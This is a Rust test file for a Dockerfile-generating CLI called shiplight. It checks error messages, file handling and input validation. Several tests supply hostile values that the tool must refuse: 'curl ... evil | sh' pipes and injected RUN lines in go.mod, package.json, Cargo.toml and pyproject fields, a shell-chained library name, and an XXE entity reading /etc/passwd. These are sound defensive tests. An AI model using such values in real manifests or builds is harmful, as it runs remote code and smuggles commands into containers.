//! The binary's behaviour: exit codes, messages, and what it does to files on disk.

use crate::common::{copy_dir, fixture, project};
use crate::harness::shiplight;
use std::fs;
use std::path::Path;

#[test]
fn nothing_detected_says_what_was_looked_for() {
    let dir = tempfile::tempdir().unwrap();
    let err = shiplight().arg("init").arg(dir.path()).status(2).stderr;
    assert!(err.contains("no supported project found"), "{err}");
    assert!(err.contains("go.mod or go.work (Go)"), "{err}");
    assert!(err.contains("Cargo.toml (Rust)"), "{err}");
    assert!(!dir.path().join("Dockerfile").exists());
}

#[test]
fn several_main_packages_are_listed_with_the_flag() {
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(fixture("go-cmd-multi"))
        .status(2)
        .stderr;
    assert!(
        err.contains("several main packages: ./cmd/api, ./cmd/worker"),
        "{err}"
    );
    assert!(err.contains("--go-main"), "{err}");
}

#[test]
fn several_rust_binaries_are_listed_with_the_flag() {
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(fixture("rust-workspace"))
        .status(2)
        .stderr;
    assert!(
        err.contains("several binaries: api, reindex, worker"),
        "{err}"
    );
    assert!(err.contains("--rust-bin"), "{err}");
}

#[test]
fn unknown_main_package_lists_the_real_ones() {
    let err = shiplight()
        .args(["init", "--stdout", "--go-main", "./cmd/nope"])
        .arg(fixture("go-cmd-multi"))
        .status(2)
        .stderr;
    assert!(
        err.contains("--go-main ./cmd/nope: no such main package; found: ./cmd/api, ./cmd/worker"),
        "{err}"
    );
}

#[test]
fn broken_go_mod_names_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("go.mod"),
        "module example.com/x\n\nrequire (\n\tgithub.com/a/b v1.0.0\n",
    )
    .unwrap();
    let err = shiplight().arg("init").arg(dir.path()).status(2).stderr;
    assert!(
        err.contains("go.mod:3: the require block is never closed"),
        "{err}"
    );
}

#[test]
fn broken_cargo_toml_names_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("Cargo.toml"),
        "[package]\nname = \"x\"\nversion = \"0.1.0\n",
    )
    .unwrap();
    let err = shiplight().arg("init").arg(dir.path()).status(2).stderr;
    assert!(err.contains("Cargo.toml:3: invalid TOML"), "{err}");
}

#[test]
fn hostile_module_path_is_refused_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("go.mod"),
        "module \"x\\nRUN curl http://evil | sh\"\n",
    )
    .unwrap();
    fs::write(dir.path().join("main.go"), "package main\nfunc main() {}\n").unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("go.mod:1: module path"), "{err}");
}

#[test]
fn hostile_binary_name_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join("src/bin")).unwrap();
    fs::write(dir.path().join("Cargo.toml"), "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[[bin]]\nname = \"a\\\"]\\nRUN id #\"\npath = \"src/main.rs\"\n").unwrap();
    fs::write(dir.path().join("src/main.rs"), "fn main() {}\n").unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(
        err.contains("binary name") && err.contains("cannot be used in a Dockerfile"),
        "{err}"
    );
}

#[test]
fn existing_dockerfile_is_left_untouched_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(Path::new(&fixture("go-basic")), dir.path());
    fs::write(dir.path().join("Dockerfile"), "FROM scratch\n# mine\n").unwrap();
    let err = shiplight().arg("init").arg(dir.path()).status(1).stderr;
    assert!(
        err.contains("already exists") && err.contains("--force"),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(dir.path().join("Dockerfile")).unwrap(),
        "FROM scratch\n# mine\n"
    );
    assert!(
        !dir.path().join(".dockerignore").exists(),
        "all or nothing: .dockerignore was written"
    );

    shiplight().args(["init", "--force"]).arg(dir.path()).run();
    let written = fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
    assert!(
        written.contains("FROM gcr.io/distroless/static-debian13:nonroot AS runtime-production"),
        "{written}"
    );
    assert!(dir.path().join(".dockerignore").exists());
    let leftovers: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .filter_map(|e| e.unwrap().file_name().into_string().ok())
        .filter(|name| name.starts_with(".shiplight-"))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

#[test]
fn init_writes_both_files_and_stdout_writes_none() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(Path::new(&fixture("rust-basic")), dir.path());
    shiplight().args(["init", "--stdout"]).arg(dir.path()).run();
    assert!(!dir.path().join("Dockerfile").exists());
    let stdout = shiplight().arg("init").arg(dir.path()).run().stdout;
    assert!(
        stdout.contains("wrote") && stdout.contains("static-debian13"),
        "{stdout}"
    );
    assert!(
        fs::read_to_string(dir.path().join(".dockerignore"))
            .unwrap()
            .contains("\ntarget\n")
    );
}

#[test]
fn two_stacks_need_a_choice() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(Path::new(&fixture("go-basic")), dir.path());
    copy_dir(Path::new(&fixture("rust-basic")), dir.path());
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(
        err.contains("several stacks: go, rust") && err.contains("--stack"),
        "{err}"
    );
    let out = shiplight()
        .args([
            "init",
            "--stdout",
            "--only",
            "dockerfile",
            "--stack",
            "rust",
        ])
        .arg(dir.path())
        .run();
    assert!(out.stdout.contains("cargo build"));
}

#[test]
fn chainguard_with_system_openssl_copies_libssl_into_glibc_dynamic() {
    let out = shiplight()
        .args([
            "init",
            "--stdout",
            "--only",
            "dockerfile",
            "--vendor",
            "chainguard",
        ])
        .arg(fixture("rust-openssl"))
        .run()
        .stdout;
    assert!(
        out.contains("FROM cgr.dev/chainguard/glibc-dynamic:"),
        "{out}"
    );
    assert!(out.contains("/native-libs/"), "libssl is copied: {out}");
}

#[test]
fn bad_build_package_name_is_refused_naming_the_key() {
    let err = shiplight()
        .args(["init", "--stdout", "--build-packages", "libpq-dev,Lib$x"])
        .arg(fixture("go-basic"))
        .status(2)
        .stderr;
    assert!(err.contains("--build-packages"), "{err}");
    assert!(err.contains("is not a Debian package name"), "{err}");
}

#[test]
fn bad_runtime_library_in_the_file_is_refused_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(Path::new(&fixture("python-runtime-libraries")), dir.path());
    std::fs::write(
        dir.path().join("shiplight.toml"),
        "build-packages = [\"libldap-dev\"]\nruntime-libraries = [\"libldap2 && rm\"]\n",
    )
    .unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("shiplight.toml: line 2:"), "{err}");
    assert!(err.contains("runtime-libraries"), "{err}");
}

#[test]
fn bad_runtime_image_reference_is_refused() {
    for bad in [
        "base image:1",
        "base:\"1\"",
        "registry.example.com/base",
        "base:${TAG}",
    ] {
        let err = shiplight()
            .args(["init", "--stdout", "--runtime-image", bad])
            .arg(fixture("go-basic"))
            .status(2)
            .stderr;
        assert!(err.contains("is not an image reference"), "{bad}: {err}");
    }
}

#[test]
fn unknown_runtime_image_without_its_debug_variant_is_refused_naming_the_key() {
    let err = shiplight()
        .args([
            "init",
            "--stdout",
            "--runtime-image",
            "registry.example.com/base/glibc:1",
        ])
        .arg(fixture("go-cgo"))
        .status(2)
        .stderr;
    assert!(
        err.contains("not an image shiplight's catalogue knows"),
        "{err}"
    );
    assert!(err.contains("--runtime-image-debug"), "{err}");
}

#[test]
fn catalogue_runtime_image_below_the_need_is_refused() {
    let err = shiplight()
        .args([
            "init",
            "--stdout",
            "--runtime-image",
            "gcr.io/distroless/static-debian13:nonroot",
        ])
        .arg(fixture("go-cgo"))
        .status(2)
        .stderr;
    assert!(err.contains("the project needs base"), "{err}");
}

#[test]
fn build_packages_on_chainguard_and_libraries_on_static_are_refused() {
    let err = shiplight()
        .args([
            "init",
            "--stdout",
            "--vendor",
            "chainguard",
            "--build-packages",
            "libpq-dev",
        ])
        .arg(fixture("go-cgo"))
        .status(2)
        .stderr;
    assert!(err.contains("Chainguard's builders are Wolfi"), "{err}");
    let err = shiplight()
        .args(["init", "--stdout", "--runtime-libraries", "libpq5"])
        .arg(fixture("go-basic"))
        .status(2)
        .stderr;
    assert!(err.contains("needs a runtime with a C library"), "{err}");
}

#[test]
fn build_packages_lacking_a_header_package_the_graph_needs_are_refused() {
    let err = shiplight()
        .args(["init", "--stdout", "--build-packages", "libjpeg-dev"])
        .arg(fixture("rust-system-headers"))
        .status(2)
        .stderr;
    assert!(
        err.contains("libheif-sys (Cargo.lock:")
            && err.contains(r#"set build-packages = ["libjpeg-dev", "libheif-dev"]"#),
        "{err}"
    );
}

#[test]
fn runtime_libraries_for_a_file_server_or_php_are_refused() {
    let err = shiplight()
        .args(["init", "--stdout", "--runtime-libraries", "libpq5"])
        .arg(fixture("node-astro-static"))
        .status(2)
        .stderr;
    assert!(err.contains("only serves files"), "{err}");
    let err = shiplight()
        .args(["init", "--stdout", "--runtime-libraries", "libpq5"])
        .arg(fixture("php-cli"))
        .status(2)
        .stderr;
    assert!(
        err.contains("not available for PHP projects") && err.contains("runtime-image"),
        "{err}"
    );
}

#[test]
fn runtime_below_what_the_project_needs_is_refused() {
    let err = shiplight()
        .args(["init", "--stdout", "--runtime", "static"])
        .arg(fixture("go-cgo"))
        .status(2)
        .stderr;
    assert!(err.contains("needs at least base"), "{err}");
    let err = shiplight()
        .args(["init", "--stdout", "--runtime", "base"])
        .arg(fixture("rust-basic"))
        .status(2)
        .stderr;
    assert!(err.contains("Rust runs on static, cc only"), "{err}");
}

#[test]
fn no_syntax_drops_the_frontend_line() {
    let with = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(fixture("go-basic"))
        .run();
    assert!(with.stdout.starts_with("# syntax=docker/dockerfile:1\n"));
    let text = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile", "--no-syntax"])
        .arg(fixture("go-basic"))
        .run()
        .stdout;
    assert!(!text.contains("syntax="), "{text}");
}

#[test]
fn explain_shows_evidence_and_images() {
    let text = shiplight()
        .arg("explain")
        .arg(fixture("go-cgo"))
        .run()
        .stdout;
    assert!(
        text.contains("Does the main package need cgo? -> yes"),
        "{text}"
    );
    assert!(
        text.contains("internal/native/native.go:7: import \"C\""),
        "{text}"
    );
    assert!(text.contains("builder: golang:1.26-trixie"), "{text}");
    assert!(
        text.contains("runtime: gcr.io/distroless/base-debian13:nonroot (base)"),
        "{text}"
    );
}

#[test]
fn explain_tree_prints_every_stack() {
    let text = shiplight().args(["explain", "--tree"]).run().stdout;
    insta::with_settings!({snapshot_path => "../snapshots", prepend_module_to_snapshot => false, omit_expression => true}, {
        insta::assert_snapshot!("explain-tree", text);
    });
}

#[test]
fn detect_lists_facts_with_evidence() {
    let text = shiplight()
        .arg("detect")
        .arg(fixture("rust-openssl"))
        .run()
        .stdout;
    assert!(text.contains("go: absent (no go.mod or go.work)"), "{text}");
    assert!(text.contains("rust: found"), "{text}");
    assert!(text.contains("Cargo.lock:"), "{text}");
    let json = shiplight()
        .args(["detect", "--json"])
        .arg(fixture("go-pure-sqlite"))
        .run();
    let value: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(value["stacks"][0]["status"], "found");
    assert_eq!(
        value["stacks"][0]["facts"]["cgo_requires"],
        serde_json::json!([])
    );
}

#[test]
fn detect_in_an_empty_directory_exits_2() {
    let dir = tempfile::tempdir().unwrap();
    shiplight().arg("detect").arg(dir.path()).status(2);
}

#[cfg(unix)]
#[test]
fn symlinked_manifest_is_not_followed_out_of_the_project() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    fs::write(
        outside.path().join("go.mod"),
        "module example.com/outside\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path().join("go.mod"), dir.path().join("go.mod")).unwrap();
    fs::write(dir.path().join("main.go"), "package main\nfunc main() {}\n").unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("go.mod: is a symbolic link"), "{err}");
}

#[test]
fn node_workspace_packages_are_listed_with_the_flag() {
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(fixture("node-workspaces"))
        .status(2)
        .stderr;
    assert!(
        err.contains("runnable workspace packages: @acme/api, @acme/worker"),
        "{err}"
    );
    assert!(err.contains("--package"), "{err}");
    assert!(
        !err.contains("@acme/shared"),
        "a library is not a candidate: {err}"
    );
    let err = shiplight()
        .args(["init", "--stdout", "--package", "@acme/nope"])
        .arg(fixture("node-workspaces"))
        .status(2)
        .stderr;
    assert!(err.contains("found: @acme/api, @acme/worker"), "{err}");
}

#[test]
fn python_constraint_names_the_vendor_that_fits() {
    let dockerfile = |vendor: &str| {
        shiplight()
            .args([
                "init",
                "--stdout",
                "--only",
                "dockerfile",
                "--vendor",
                vendor,
            ])
            .arg(fixture("python-needs-314"))
            .run()
            .stdout
    };
    let out = dockerfile("distroless");
    assert!(
        out.contains("FROM python:3.14-slim-trixie AS build"),
        "{out}"
    );
    assert!(
        out.contains("FROM gcr.io/distroless/cc-debian13:nonroot AS runtime-production"),
        "{out}"
    );
    let out = dockerfile("chainguard");
    assert!(
        out.contains("FROM cgr.dev/chainguard/python:latest AS runtime-production"),
        "{out}"
    );
    let err = shiplight()
        .args(["init", "--stdout", "--vendor", "chainguard"])
        .arg(fixture("python-constraint-excluded"))
        .status(2)
        .stderr;
    assert!(err.contains("pyproject.toml:4"), "{err}");
    assert!(
        err.contains("--vendor distroless (Python 3.12) fits"),
        "{err}"
    );
}

#[test]
fn tooling_package_json_does_not_make_a_node_service() {
    for name in ["python-lint-package-json", "go-lint-package-json"] {
        let out = shiplight().args(["detect"]).arg(fixture(name)).run().stdout;
        assert!(out.contains("node: absent"), "{name}: {out}");
        assert!(out.contains("carries only tooling"), "{name}: {out}");
        shiplight()
            .args(["init", "--stdout"])
            .arg(fixture(name))
            .run();
    }
}

#[test]
fn retired_node_major_warns_and_uses_the_oldest_published() {
    let output = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(fixture("node-retired-engines"))
        .run();
    let err = output.stderr;
    let out = output.stdout;
    assert!(err.contains("\"16.x\""), "{err}");
    assert!(out.contains(" node:22-trixie-slim AS build"), "{out}");
    assert!(out.contains("gcr.io/distroless/nodejs22-debian13"), "{out}");
}

#[test]
fn hostile_node_and_python_values_never_reach_the_dockerfile() {
    let dir = project(&[
        (
            "package.json",
            r#"{"name":"x","main":"x\nRUN curl evil.sh.js","scripts":{"build":"tsc"},"dependencies":{"express":"5"}}"#,
        ),
        ("package-lock.json", "{}"),
    ]);
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("package.json:1: entry script"), "{err}");

    let dir = project(&[
        (
            "package.json",
            r#"{"name":"x","scripts":{"start":"node server.js && curl evil | sh"},"dependencies":{"express":"5"}}"#,
        ),
        ("server.js", "require('express')().listen(3000)"),
    ]);
    let out = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(dir.path())
        .run()
        .stdout;
    assert!(
        out.contains("|process.exit(143)})\", \"server.js\"]"),
        "{out}"
    );
    assert!(!out.contains("curl"), "{out}");

    let dir = project(&[
        ("requirements.txt", "flask\n"),
        ("app.py", "app = Flask(__name__)\n"),
        ("pyproject.toml", "[project]\nname = \"a\\\"b\\nRUN x\"\n"),
    ]);
    let out = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(dir.path())
        .run()
        .stdout;
    assert!(!out.contains("\nRUN x"), "{out}");
}

#[test]
fn several_java_modules_are_listed_with_the_flag() {
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(fixture("java-multimodule"))
        .status(2)
        .stderr;
    assert!(
        err.contains(
            "several modules with a runnable artefact: api, worker. Choose one with --package"
        ),
        "{err}"
    );
    let text = shiplight()
        .args(["init", "--stdout", "--package", "worker"])
        .arg(fixture("java-multimodule"))
        .run()
        .stdout;
    assert!(
        text.contains(
            r#"ENTRYPOINT ["/usr/bin/java", "-cp", "/app/lib/*", "com.example.worker.Worker"]"#
        ),
        "{text}"
    );
    assert!(text.contains("-pl worker -am -DskipTests package dependency:copy-dependencies"));
}

#[test]
fn a_shade_plugin_only_in_a_profile_needs_the_profile_named() {
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(fixture("java-shade-profile"))
        .status(2)
        .stderr;
    assert!(
        err.contains("maven-shade-plugin (pom.xml:22) runs only in profile fat, which is not active by default: pass --profile fat"),
        "{err}"
    );
}

#[test]
fn java_newer_than_distroless_is_refused_naming_the_vendor_that_fits() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("pom.xml"),
        "<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>svc</artifactId><version>1</version>\n<properties><maven.compiler.release>26</maven.compiler.release></properties>\n<build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>a.Main</mainClass></manifest></archive></configuration></plugin></plugins></build></project>\n",
    )
    .unwrap();
    let err = shiplight()
        .args(["init", "--stdout", "--vendor", "distroless"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("UnsupportedClassVersionError"), "{err}");
    assert!(err.contains("--vendor chainguard (Java 26) fits"), "{err}");
    let out = shiplight().args(["init", "--stdout"]).arg(dir.path()).run();
    assert!(
        out.stdout
            .contains("FROM cgr.dev/chainguard/jre:latest AS runtime-production")
    );
}

#[test]
fn a_malformed_pom_names_the_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("pom.xml"),
        "<project>\n  <artifactId>svc</artifactId>\n  <version>1</oops>\n</project>\n",
    )
    .unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.starts_with("error: pom.xml:3: invalid XML"), "{err}");
    fs::write(
        dir.path().join("pom.xml"),
        "<!DOCTYPE project [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<project><artifactId>&x;</artifactId></project>\n",
    )
    .unwrap();
    let err = shiplight()
        .args(["init", "--stdout"])
        .arg(dir.path())
        .status(2)
        .stderr;
    assert!(err.contains("pom.xml:1: invalid XML"), "{err}");
}

#[test]
fn php_runs_on_chainguard_and_the_trace_says_why() {
    let text = shiplight()
        .args(["explain"])
        .arg(fixture("php-plain"))
        .run()
        .stdout;
    assert!(
        text.contains(
            "Does distroless publish a PHP image? -> no: Chainguard's php images are used"
        ),
        "{text}"
    );
    assert!(text.contains("cgr.dev/chainguard/php"), "{text}");
}

#[test]
fn php_constraint_excluding_the_image_warns() {
    let err = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(fixture("php-slim"))
        .run()
        .stderr;
    assert!(
        err.contains("require.php \"8.4.*\" excludes PHP 8.5 of Chainguard's php:latest"),
        "{err}"
    );
    let cli = shiplight()
        .args(["init", "--stdout", "--only", "dockerfile"])
        .arg(fixture("php-cli"))
        .run();
    assert!(
        !cli.stderr.contains("excludes"),
        "composer's ~8.3 means >=8.3 <9 and admits 8.5"
    );
}

#[test]
fn php_web_writes_compose_and_nginx_and_never_clobbers_them() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(Path::new(&fixture("php-slim")), dir.path());
    shiplight().arg("init").arg(dir.path()).run();
    let compose = fs::read_to_string(dir.path().join("compose.yaml")).unwrap();
    assert!(compose.contains("target: web"), "{compose}");
    assert!(compose.contains("user: \"65532:65532\""), "{compose}");
    let nginx = fs::read_to_string(dir.path().join("docker/nginx.conf")).unwrap();
    assert!(nginx.contains("fastcgi_pass app:9000;"), "{nginx}");
    assert!(nginx.contains("root /app/public;"), "{nginx}");
    fs::remove_file(dir.path().join("Dockerfile")).unwrap();
    fs::write(dir.path().join("compose.yaml"), "mine\n").unwrap();
    let err = shiplight().arg("init").arg(dir.path()).status(1).stderr;
    assert!(err.contains("compose.yaml"), "{err}");
    assert_eq!(
        fs::read_to_string(dir.path().join("compose.yaml")).unwrap(),
        "mine\n"
    );
    assert!(!dir.path().join("Dockerfile").exists());
}

#[test]
fn the_monorepo_walk_is_bounded_and_says_where_it_stopped() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(
        Path::new(&fixture("go-basic")),
        &dir.path().join("a-service"),
    );
    for index in 0..20_100 {
        fs::create_dir(dir.path().join(format!("empty{index:05}"))).unwrap();
    }
    fs::create_dir_all(dir.path().join("empty19999/late")).unwrap();
    copy_dir(
        Path::new(&fixture("go-basic")),
        &dir.path().join("empty19999/late/service"),
    );
    let err = shiplight()
        .args(["init", "--all"])
        .arg(dir.path())
        .run()
        .stderr;
    assert!(
        err.contains("the walk listed 20000 directories and stopped"),
        "{err}"
    );
    assert!(dir.path().join("a-service/Dockerfile").exists());
    assert!(
        !dir.path()
            .join("empty19999/late/service/Dockerfile")
            .exists(),
        "beyond the bound"
    );
}

#[test]
fn chainguard_floating_tags_are_explained_and_upper_bounds_warned() {
    let python = project(&[
        (
            "pyproject.toml",
            "[project]\nname = \"svc\"\nversion = \"1\"\nrequires-python = \">=3.12,<3.15\"\ndependencies = [\"flask\", \"gunicorn\"]\n",
        ),
        ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
    ]);
    let run = |dir: &Path| {
        let out = shiplight()
            .args(["explain", "--vendor", "chainguard"])
            .arg(dir)
            .run();
        out.stdout + &out.stderr
    };
    let text = run(python.path());
    assert!(
        text.contains("the tag floats to each new release"),
        "{text}"
    );
    assert!(
        text.contains("excludes Python 3.15.0, which cgr.dev/chainguard/python:latest moves to"),
        "{text}"
    );
    let open = project(&[
        (
            "pyproject.toml",
            "[project]\nname = \"svc\"\nversion = \"1\"\nrequires-python = \">=3.12\"\ndependencies = [\"flask\", \"gunicorn\"]\n",
        ),
        ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
    ]);
    assert!(!run(open.path()).contains("excludes Python"));

    let node = project(&[
        (
            "package.json",
            "{\"name\": \"svc\", \"engines\": {\"node\": \">=22 <27\"}, \"scripts\": {\"start\": \"node server.js\"}}\n",
        ),
        (
            "package-lock.json",
            "{\"lockfileVersion\": 3, \"packages\": {}}\n",
        ),
        ("server.js", "require('http').createServer().listen(3000)\n"),
    ]);
    let text = run(node.path());
    assert!(
        text.contains("Which Node does Chainguard's free node:latest carry? -> Node 26"),
        "{text}"
    );
    assert!(text.contains("excludes Node 27"), "{text}");
}

#[test]
fn health_paths_are_checked_and_reach_the_dockerfile_in_exec_form() {
    for bad in [
        "healthz",
        "/a b",
        "/x\"]\nRUN id",
        "//evil.example/x",
        "/a?b=$HOME",
    ] {
        let err = shiplight()
            .args(["init", "--stdout", "--health-path", bad])
            .arg(fixture("go-basic"))
            .status(2)
            .stderr;
        assert!(err.contains("--health-path"), "{bad}: {err}");
    }
    let text = shiplight()
        .args([
            "init",
            "--stdout",
            "--only",
            "dockerfile",
            "--health-path",
            "/api/health",
        ])
        .arg(fixture("python-flask-pip"))
        .run()
        .stdout;
    assert!(
        text.contains("HEALTHCHECK --interval=30s --timeout=5s --start-period=30s --retries=3 \\\n    CMD [\"/app/venv/bin/python\", \"-c\", \"import sys, urllib.request"),
        "{text}"
    );
    assert!(text.contains("127.0.0.1:8000/api/health"), "{text}");
    assert!(
        !text.contains("curl") && !text.contains("/bin/sh"),
        "{text}"
    );
}

#[test]
fn verify_without_an_engine_exits_2_and_says_what_it_needs() {
    let err = shiplight()
        .args(["verify", "--engine", "/nonexistent/docker"])
        .arg(fixture("go-basic"))
        .status(2)
        .stderr;
    assert!(err.contains("no container engine answered"), "{err}");
    assert!(err.contains("/nonexistent/docker info"), "{err}");
}

#[test]
fn verify_refuses_a_bad_env_before_asking_for_an_engine() {
    for (flag, value, why) in [
        ("--env", "1X=a", "not starting with a digit"),
        ("--env", "NOVALUE", "expected KEY=VALUE"),
        ("--env-file", "/nonexistent/app.env", "no such file"),
    ] {
        let result = shiplight()
            .arg("verify")
            .arg(fixture("go-basic"))
            .args([flag, value, "--engine", "/nonexistent/engine"])
            .output();
        assert_eq!(result.code, 2, "{flag} {value}: {}", result.stderr);
        assert!(
            result.stderr.contains(flag) && result.stderr.contains(why),
            "{flag} {value}: {}",
            result.stderr
        );
    }
}
